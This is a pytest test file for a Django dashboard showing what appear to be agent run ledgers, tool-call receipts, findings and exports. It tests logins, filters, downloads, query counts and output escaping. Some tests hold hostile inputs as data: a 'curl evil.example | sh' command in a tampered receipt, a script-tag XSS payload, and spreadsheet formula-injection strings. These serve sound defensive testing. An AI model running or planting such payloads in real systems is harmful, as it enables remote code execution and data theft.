"""Every page, filter and download through the test client, with bounded queries."""

from __future__ import annotations

import csv
import io
import json
from http import HTTPStatus
from pathlib import Path

import pytest
from django.urls import reverse

from receipts import durable, importer
from receipts.models import Call, Run
from tests.conftest import import_as_seen_later
from tests.volume import synthetic_ledger

pytestmark = pytest.mark.django_db


@pytest.fixture
def demo(demo_root) -> Path:
    import_as_seen_later(demo_root)
    return demo_root


@pytest.fixture
def user(django_user_model):
    return django_user_model.objects.create_user("alice", password="a-long-password-1")


@pytest.fixture
def browser(client, user):
    client.force_login(user)
    return client


def content(response) -> str:
    return b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()


def call_of(run_id: str) -> Call:
    return Call.objects.filter(run__run_id=run_id).order_by("call_id").first()


PAGES = [
    "/",
    "/findings/",
    "/reservations/",
    "/runs/clean-run/",
    "/runs/clean-run/replay/",
    "/search/?q=clean-run",
]


@pytest.mark.parametrize("url", PAGES)
def test_every_page_needs_a_login(client, demo, url):
    response = client.get(url)
    assert response.status_code == HTTPStatus.FOUND
    assert response["Location"].startswith("/accounts/login/")


def test_the_call_page_needs_a_login(client, demo):
    call = call_of("clean-run")
    response = client.get(reverse("call", args=["clean-run", call.call_id]))
    assert response.status_code == HTTPStatus.FOUND


def test_pages_refuse_post(browser, demo):
    assert browser.post("/").status_code == HTTPStatus.METHOD_NOT_ALLOWED
    assert browser.post("/runs/clean-run/").status_code == HTTPStatus.METHOD_NOT_ALLOWED


def test_runs_page_lists_every_run_with_its_facts(browser, demo):
    response = browser.get("/")
    assert response.status_code == HTTPStatus.OK
    page = content(response)
    for run in Run.objects.all():
        assert f'href="/runs/{run.run_id}/"' in page
    assert "9 runs" in page and "5 need attention" in page
    assert '<svg class="chart"' in page and 'aria-label="calls: 3 committed"' in page


def test_runs_filters_by_state_and_attention(browser, demo):
    retrying = content(browser.get("/?state=retrying"))
    assert "send-message-killed" in retrying and "clean-run</a>" not in retrying
    attention = content(browser.get("/?attention=1"))
    assert "tampered-receipt" in attention and "a4-concurrent</a>" not in attention


def test_runs_filter_answers_htmx_with_the_table_only(browser, demo):
    response = browser.get("/?attention=1", headers={"HX-Request": "true"})
    page = content(response)
    assert page.lstrip().startswith('<section id="runs-table">')
    assert "<html" not in page


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_runs_download_keeps_the_filters(browser, demo, fmt):
    response = browser.get(f"/?attention=1&format={fmt}")
    assert response.status_code == HTTPStatus.OK
    assert response["Content-Disposition"] == f'attachment; filename="runs.{fmt}"'
    body = content(response)
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(body)))
        header, rows = rows[0], rows[1:]
    else:
        document = json.loads(body)
        header, rows = document["columns"], document["rows"]
    assert header[0] == "run_id"
    assert sorted(row[0] for row in rows) == sorted(
        ["tampered-receipt", "stale-reservation", "write-file-killed", "send-message-killed", "conflict-same-id"]
    )


def test_an_unknown_download_format_is_404(browser, demo):
    assert browser.get("/?format=xml").status_code == HTTPStatus.NOT_FOUND


def test_run_page_shows_ledger_calls_dispositions_and_findings(browser, demo):
    page = content(browser.get("/runs/conflict-same-id/"))
    assert "Disposition history" in page
    assert 'badge-ok">created' in page and 'badge-bad">conflict' in page
    assert "request_digest_differs" in page
    assert "submission_conflict" in page


def test_run_page_filters_the_ledger_by_event_type(browser, demo):
    page = content(browser.get("/runs/clean-run/?type=receipt"))
    timeline = page[page.index('id="timeline"') : page.index('id="calls"')]
    assert "receipt" in timeline and ">state<" not in timeline


def test_an_unfinished_run_polls_and_a_finished_one_does_not(browser, demo):
    live = content(browser.get("/runs/send-message-killed/"))
    assert 'hx-trigger="every 3s"' in live
    finished = content(browser.get("/runs/clean-run/"))
    assert 'hx-trigger="every 3s"' not in finished


def test_the_poll_returns_the_timeline_with_new_events(browser, demo):
    run_dir = demo / "send-message-killed"
    durable.append_event(run_dir, "note", {"text": "appended while watching"})
    importer.run_import(path=run_dir)
    response = browser.get("/runs/send-message-killed/", headers={"HX-Request": "true"})
    page = content(response)
    assert page.lstrip().startswith('<section id="timeline"')
    assert "appended while watching" in page


@pytest.mark.parametrize("which", ["events", "calls", "submissions"])
def test_run_downloads(browser, demo, which):
    response = browser.get(f"/runs/clean-run/?list={which}&format=json")
    document = json.loads(content(response))
    expected = {"events": 10, "calls": 3, "submissions": 1}[which]
    assert len(document["rows"]) == expected


def test_call_page_spells_out_the_identity_check(browser, demo):
    call = call_of("tampered-receipt")
    page = content(browser.get(reverse("call", args=["tampered-receipt", call.call_id])))
    assert call.declared_call_id in page and call.recomputed_call_id in page
    assert "mismatch: the receipt was altered" in page
    assert "curl evil.example | sh" in page  # args shown, escaped
    assert 'badge-warn">confirm' in page, "a tampered receipt is never reused"


def test_call_page_escapes_hostile_args(browser, demo):
    call = call_of("clean-run")
    Call.objects.filter(pk=call.pk).update(args={"x": "<script>alert(1)</script>"})
    page = content(browser.get(reverse("call", args=["clean-run", call.call_id])))
    assert "<script>alert(1)</script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_unknown_run_and_call_are_404(browser, demo):
    assert browser.get("/runs/nope/").status_code == HTTPStatus.NOT_FOUND
    assert browser.get("/runs/clean-run/calls/" + "0" * 64 + "/").status_code == HTTPStatus.NOT_FOUND


def test_replay_page_groups_decisions_with_counts(browser, demo):
    page = content(browser.get("/runs/send-message-killed/replay/"))
    assert "all 1" in page and "a person must decide" in page
    document = json.loads(content(browser.get("/runs/send-message-killed/replay/?format=json")))
    assert [row[3] for row in document["rows"]] == ["confirm"]


def test_replay_puts_a_persons_decisions_first_and_filters(browser, demo):
    last = Call.objects.filter(run__run_id="clean-run").order_by("-call_id").first()
    Call.objects.filter(pk=last.pk).update(decision="confirm", decision_reason="made up for the test")
    page = content(browser.get("/runs/clean-run/replay/"))
    assert page.index('badge-warn">confirm') < page.index('badge-ok">reuse')
    only = content(browser.get("/runs/clean-run/replay/?decision=reuse"))
    assert "made up for the test" not in only and "all 3" in only


def test_findings_page_puts_digest_mismatches_first_with_both_values(browser, demo):
    page = content(browser.get("/findings/"))
    assert page.index("Digest mismatches") < page.index("Every other finding")
    digest_section = page[page.index("Digest mismatches") : page.index("Every other finding")]
    assert "identity_mismatch" in digest_section and "input_digest_mismatch" in digest_section
    call = call_of("tampered-receipt")
    assert call.recomputed_call_id in digest_section and call.declared_call_id in digest_section
    assert "stale_reservation" not in digest_section


def test_findings_filters_and_download(browser, demo):
    page = content(browser.get("/findings/?code=stale_call"))
    assert "send-message-killed" in page and "tampered-receipt</a>" not in page
    rows = json.loads(content(browser.get("/findings/?run=conflict-same-id&format=json")))["rows"]
    assert {row[1] for row in rows} == {"submission_conflict"}


def test_reservations_page_is_read_only_and_says_what_a_resume_would_do(browser, demo):
    page = content(browser.get("/reservations/"))
    assert "stale-submission" in page and "adopts the task file" in page
    assert '<form method="post"' not in page.split("</header>")[1]
    rows = json.loads(content(browser.get("/reservations/?format=json")))["rows"]
    assert {row[0] for row in rows} == {"reservation", "call"}


def test_search_jumps_to_a_run_a_call_or_a_submission(browser, demo):
    assert browser.get("/search/?q=clean-run")["Location"] == "/runs/clean-run/"
    call = call_of("write-file-killed")
    assert browser.get(f"/search/?q={call.call_id[:10]}")["Location"] == reverse(
        "call", args=["write-file-killed", call.call_id]
    )
    assert browser.get("/search/?q=a2-submission")["Location"].startswith("/runs/a2-lost-response/?submission=")
    nothing = browser.get("/search/?q=zzz-nothing")
    assert nothing.status_code == HTTPStatus.OK and "Nothing has this" in content(nothing)


def test_query_counts_do_not_grow_with_the_run(browser, demo, django_assert_max_num_queries):
    call = call_of("clean-run")
    urls = ["/", "/runs/clean-run/", "/runs/clean-run/replay/", "/findings/", "/reservations/"]
    urls.append(reverse("call", args=["clean-run", call.call_id]))
    small = {}
    for url in urls:
        with django_assert_max_num_queries(40) as captured:
            browser.get(url)
        small[url] = len(captured)
    synthetic_ledger(demo / "clean-run", 3000, start_seq=11)
    importer.run_import(path=demo / "clean-run")
    for url in urls:
        with django_assert_max_num_queries(small[url]):
            browser.get(url)


def test_hostile_event_payloads_never_break_a_page(browser, demo):
    run_dir = demo / "clean-run"
    call = call_of("clean-run")
    hostile = {"status": ["x"], "tool": {"a": 1}, "attempt": [1], "state": {"s": 1}, "task_id": ["t"]}
    durable.append_event(run_dir, "receipt", {**hostile, "call_id": call.call_id})
    durable.append_event(run_dir, "state", {"state": ["running"], "attempts": {"n": 1}})
    durable.append_event(run_dir, "submission", {"client_submission_id": "demo-clean-1", "reason": ["r"], **hostile})
    durable.append_event(run_dir, "confirmation", {"resolution": [1], "actor": {"name": "x"}})
    importer.run_import(path=run_dir)
    for url in ("/runs/clean-run/", reverse("call", args=["clean-run", call.call_id])):
        response = browser.get(url)
        assert response.status_code == HTTPStatus.OK, url
        assert "[&quot;x&quot;]" in content(response), "shown as the JSON it is, escaped"
    assert browser.get("/runs/clean-run/?format=csv").status_code == HTTPStatus.OK


def test_csv_cells_that_could_be_formulas_are_neutralised(browser, demo):
    run_dir = demo / "clean-run"
    for text in ('=HYPERLINK("http://evil")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        durable.append_event(run_dir, text, {})
    importer.run_import(path=run_dir)
    rows = list(csv.reader(io.StringIO(content(browser.get("/runs/clean-run/?format=csv")))))
    types = [row[2] for row in rows[1:]]
    assert '\'=HYPERLINK("http://evil")' in types and "'+1" in types and "'-2+3" in types
    assert "'@SUM(A1)" in types and "'\tx" in types and "'\rx" in types
    assert not [cell for row in rows[1:] for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    seqs = [row[0] for row in rows[1:]]
    assert all(seq.isdigit() for seq in seqs), "numbers stay numbers"


def test_links_and_redirects_encode_a_submission_id(browser, demo):
    from receipts import runtime

    run_dir = demo / "clean-run"
    runtime.write_task(run_dir, {"subject": "x"}, "a&b=c #d?")
    importer.run_import(path=run_dir)
    location = browser.get("/search/", {"q": "a&b=c #d?"})["Location"]
    assert location == "/runs/clean-run/?submission=a%26b%3Dc+%23d%3F#submissions"
    page = content(browser.get(location))
    assert "Showing submission" in page and "a&amp;b=c #d?" in page


def test_a_recovered_creation_says_so_in_the_disposition_history(browser, demo):
    page = content(browser.get("/runs/a2-lost-response/"))
    history = page[page.index("Disposition history") :]
    assert "recovered: a crash kept this event out of the ledger" in history
    assert history.index('badge-ok">created') < history.index('badge-info">reused')
